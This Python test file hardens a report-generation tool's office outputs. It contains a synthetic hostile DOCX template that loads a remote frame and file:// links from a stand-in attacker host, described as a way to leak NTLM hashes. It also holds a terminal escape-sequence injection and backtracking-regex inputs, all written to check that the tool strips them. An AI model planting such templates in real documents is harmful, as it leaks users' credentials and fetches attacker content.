"""Issue 21, fourth round: a hostile review of the office surfaces — a repository's
`templates/report.docx` (its styles only), `-f pdf` through LibreOffice, the report text files
`reports/*.md`. The rules are those of docs/security.md. Templates and repositories here are
SYNTHETIC fixtures."""

from __future__ import annotations

import io
import re
import time
import zipfile
from pathlib import Path

import pytest

docx = pytest.importorskip("docx")

from conftest import PLAN, run, write_repo  # noqa: E402
from test_docx_writer import _template, synthetic  # noqa: E402

from xhht.base.errors import UsageError  # noqa: E402
from xhht.present.docx_writer import write_docx  # noqa: E402
from xhht.present.office import docx_to_pdf  # noqa: E402

EVIL = "evil.invalid"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _rels(*rels: tuple[str, str, str]) -> str:
    body = "".join(f'<Relationship Id="{i}" Type="{t}" Target="{target}" TargetMode="External"/>'
                   for i, t, target in rels)
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">{body}</Relationships>'


def _rewrite(data: bytes, change: dict[str, bytes | None]) -> bytes:
    """The package `data` with parts replaced (or added, or removed when None)."""
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name in src.namelist():
            if name not in change:
                z.writestr(name, src.read(name))
        for name, blob in change.items():
            if blob is not None:
                z.writestr(name, blob)
    return out.getvalue()


def _hostile_template() -> bytes:
    """A style template whose parts lead out of the file: a frameset in the web settings (Word loads
    it from the URL when the document opens: a known way to fetch a remote document or leak the
    user's NTLM hash over file://), an external picture from the styles and the theme, a link from
    the package, and properties of its own (author, title, company, a custom property)."""
    base = _template()
    src = zipfile.ZipFile(io.BytesIO(base))
    package_rels = src.read("_rels/.rels").decode().replace(
        "</Relationships>", f'<Relationship Id="rIdX" Type="{RT}/hyperlink" Target="file://{EVIL}/share/p" '
                            'TargetMode="External"/><Relationship Id="rIdC" Type="http://schemas.openxmlformats.'
                            'org/officeDocument/2006/relationships/custom-properties" Target="docProps/custom.xml"/>'
                            '</Relationships>')
    core = src.read("docProps/core.xml").replace(b"</cp:coreProperties>",
                                                 b"<dc:title>EVIL TITLE</dc:title></cp:coreProperties>")
    web = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:webSettings xmlns:r="{RT}" xmlns:w='
           '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:frameset><w:frameset><w:frame>'
           '<w:name w:val="x"/><w:sourceFileName r:id="rId1"/><w:linkedToFile/></w:frame></w:frameset>'
           '</w:frameset></w:webSettings>')
    custom = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.openxml'
              'formats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/'
              'officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" '
              'name="EVIL"><vt:lpwstr>EVIL PROPERTY</vt:lpwstr></property></Properties>')
    types = src.read("[Content_Types].xml").decode().replace(
        "</Types>", '<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-'
                    'officedocument.custom-properties+xml"/></Types>')
    return _rewrite(base, {
        "_rels/.rels": package_rels.encode(), "docProps/core.xml": core, "docProps/custom.xml": custom.encode(),
        "[Content_Types].xml": types.encode(), "word/webSettings.xml": web.encode(),
        "word/_rels/webSettings.xml.rels": _rels(("rId1", f"{RT}/frame", f"http://{EVIL}/frame.docx")).encode(),
        "word/_rels/styles.xml.rels": _rels(("rId9", f"{RT}/image", f"http://{EVIL}/s.png")).encode(),
        "word/theme/_rels/theme1.xml.rels": _rels(("rId1", f"{RT}/image", f"http://{EVIL}/t.png")).encode(),
    })


def test_a_style_template_brings_no_link_out_of_the_file_and_no_properties_of_its_own():
    evil = _hostile_template()
    assert sum(EVIL.encode() in zipfile.ZipFile(io.BytesIO(evil)).read(n)
               for n in zipfile.ZipFile(io.BytesIO(evil)).namelist()) == 4
    written = zipfile.ZipFile(io.BytesIO(write_docx(synthetic(), style_template=evil)))
    for name in written.namelist():
        blob = written.read(name)
        assert EVIL.encode() not in blob and b"EVIL" not in blob and b'TargetMode="External"' not in blob, name
    assert not {"word/webSettings.xml", "docProps/custom.xml", "docProps/app.xml"} & set(written.namelist())
    d = docx.Document(io.BytesIO(written.fp.getvalue()))
    assert d.styles["Normal"].font.name == "Arial"  # the styles are still the template's


def test_a_style_template_without_normal_is_used_not_a_crash():
    src = zipfile.ZipFile(io.BytesIO(_template()))
    styles = src.read("word/styles.xml").replace(b'w:styleId="Normal"', b'w:styleId="Plain"').replace(
        b'<w:name w:val="Normal"/>', b'<w:name w:val="Plain"/>')
    d = docx.Document(io.BytesIO(write_docx(synthetic(), style_template=_rewrite(_template(), {"word/styles.xml": styles}))))
    assert "Normal" in [s.name for s in d.styles] and "Body Text" in [s.name for s in d.styles]


# ---------------------------------------------------------------- -f pdf: LibreOffice never outlives xhht


def test_a_libreoffice_that_hangs_is_killed_whole_after_the_timeout(tmp_path, monkeypatch):
    """`soffice` is a script that starts soffice.bin: killing only the script (what subprocess.run does on
    a timeout) left soffice.bin running after xhht had exited. A fake soffice that hangs the same way."""
    fake = tmp_path / "bin" / "soffice"
    fake.parent.mkdir()
    pid_file = tmp_path / "child.pid"
    fake.write_text(f"#!/bin/sh\nsleep 120 &\necho $! > {pid_file}\nwait\n", encoding="utf-8")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}:/usr/bin:/bin")
    with pytest.raises(UsageError, match="2 giây"):
        docx_to_pdf(b"PK", timeout=2)
    child = int(pid_file.read_text())
    assert not _alive(child), "the LibreOffice child outlived xhht"


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state != "Z"  # a zombie is dead, waiting for its (new) parent to reap it


# ---------------------------------------------------------------- patterns that backtrack; messages that quote a file


def test_long_lines_are_checked_in_linear_time_and_quoted_shortly(tmp_path):
    """`## # # # … x` (a report heading) and `">= 1      …      x"` (a target) made two patterns backtrack
    over every ` #` and every blank: 120 kB of them took 30 s to check, a 1 MiB report hours. And each
    problem quoted its text whole: a 1 MB line in the CI log."""
    n = 100_000
    plan = PLAN.replace("targets: {2022: 100}", 'targets: {2022: ">= 1' + " " * n + 'x"}')
    root = write_repo(tmp_path / "repo", plans={"demo.yaml": plan})
    (root / "reports").mkdir()
    (root / "reports" / "h.md").write_text("---\nplan: demo\nperiod: 2022\n---\n## Kết quả khác\n\n"
                                           "## " + " #" * n + "x\n\n### " + "# " * n + "y ##\n", encoding="utf-8")
    for fmt in ("text", "github", "json"):
        start = time.monotonic()
        r = run("--no-cache", "check", "-f", fmt, cwd=root)
        assert time.monotonic() - start < 20, f"check -f {fmt} took {time.monotonic() - start:.0f} s"
        assert r.returncode == 1 and "bad-comparator" in r.stdout and "report-unknown-section" in r.stdout, r.stdout[:2000]
        assert max(len(line) for line in r.stdout.splitlines()) < 1500, fmt


def test_a_style_template_of_too_many_styles_is_refused_before_python_docx_walks_them():
    """python-docx finds a style by walking them all: a 3 MB template of 400,000 styles took 95 s and
    900 MB; more than 2,000 is no style template (Word's own defines about 300)."""
    from xhht.present.docx_style import TemplateError

    src = zipfile.ZipFile(io.BytesIO(_template()))
    many = "".join(f'<w:style w:type="paragraph" w:customStyle="1" w:styleId="S{i}"><w:name w:val="S{i}"/></w:style>'
                   for i in range(2001))
    styles = src.read("word/styles.xml").replace(b"</w:styles>", many.encode() + b"</w:styles>")
    with pytest.raises(TemplateError) as raised:
        write_docx(synthetic(), style_template=_rewrite(_template(), {"word/styles.xml": styles}))
    assert raised.value.kind == "docx-too-many-styles"


def test_a_style_template_that_cannot_be_used_is_said_in_the_run_s_language(tmp_path):
    root = write_repo(tmp_path / "repo")
    (root / "templates").mkdir()
    (root / "templates" / "report.docx").write_bytes(b"PK\x03\x04 not a zip")
    r = run("report", "-f", "docx", "-o", str(tmp_path / "r.docx"), cwd=root)
    assert r.returncode == 1 and "error[template-error]" in r.stderr, r.stdout + r.stderr
    assert "đây không phải văn bản Word (.docx)" in r.stderr and "style template" not in r.stderr, r.stderr
    assert not (tmp_path / "r.docx").exists()


def test_a_report_text_in_a_sub_folder_of_reports_is_read_not_silently_refused(tmp_path):
    """`reports/sub/x.md` is none of the repository's reports/*.md: it was taken for one that had been
    loaded, and `report` exited 1 printing nothing. It is read as a file named on the command line."""
    from xhht.cli.docgen import REPORT

    root = write_repo(tmp_path / "repo")
    (root / "reports" / "cu").mkdir(parents=True)
    (root / "reports" / "cu" / "x.md").write_text(REPORT + "## Kết quả khác\n\nMột câu thử.\n", encoding="utf-8")
    r = run("report", "reports/cu/x.md", cwd=root)
    assert r.returncode == 0 and "Một câu thử." in r.stdout, r.stdout + r.stderr


@pytest.mark.parametrize("template, args", [
    ("scorecard.html.j2", ("scorecard", "--year", "2022", "-f", "html")),
    ("evaluate.html.j2", ("evaluate", "chuan-thu", "--year", "2022", "-f", "html")),
    ("report.html.j2", ("report", "demo", "-p", "2022", "-f", "html")),
])
def test_no_repository_template_of_any_command_prints_a_control_character(tmp_path, template, args):
    """HTML autoescapes `<`, not ESC: `scorecard` and `evaluate` printed a template's `{{ "\\x1b]0;…\\x07" }}`
    (a window title, a bell) and U+202E raw, where `report` did not. The sandbox's rendering drops them
    for every command."""
    from test_hostile_new import _repo

    root = _repo(tmp_path)
    (root / "templates").mkdir()
    (root / "templates" / template).write_text('{{ "\\x1b]0;pwn\\x07\\u202e" }} {{ view.lang }}\n', encoding="utf-8")
    r = run(*args, cwd=root)
    assert r.returncode == 0 and "pwn" in r.stdout, r.stdout + r.stderr
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", r.stdout), repr(r.stdout)


def test_evaluate_of_a_standard_whose_file_has_errors_says_so(tmp_path):
    """A standard file too broken to load: `evaluate` said only that there is no such standard."""
    from test_hostile_new import _repo

    root = _repo(tmp_path)
    (root / "standards" / "thu.yaml").write_text("id: chuan-thu\ntitle: [x\n", encoding="utf-8")
    r = run("evaluate", "chuan-thu", "--year", "2022", cwd=root)
    assert r.returncode == 2 and "tệp chuẩn có lỗi bị bỏ qua: chạy `xhht check`" in r.stderr, r.stderr


def test_an_officer_s_line_of_dashes_is_text_not_a_rule_or_a_heading():
    """A paragraph `---` of a report text printed a horizontal rule in the Markdown review, and `===`
    under a line (a signer's name under the title) made that line a heading."""
    from xhht.base.safetext import for_markdown_line
    from xhht.present.render import md_runs

    assert [for_markdown_line(t) for t in ("---", "===", "-3", "a---")] == ["\\---", "\\===", "-3", "a---"]
    assert str(md_runs([{"text": "---", "bold": False, "italic": False}])) == "\\---"
